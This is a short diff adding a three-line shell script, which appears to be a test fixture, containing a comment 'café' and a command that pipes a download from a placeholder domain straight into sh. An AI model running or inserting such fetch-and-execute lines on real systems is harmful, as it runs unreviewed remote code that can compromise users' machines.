@@ -1,0 +1,3 @@
+#!/bin/sh
+# café
+curl -fsSL https://get.example.com/x | sh
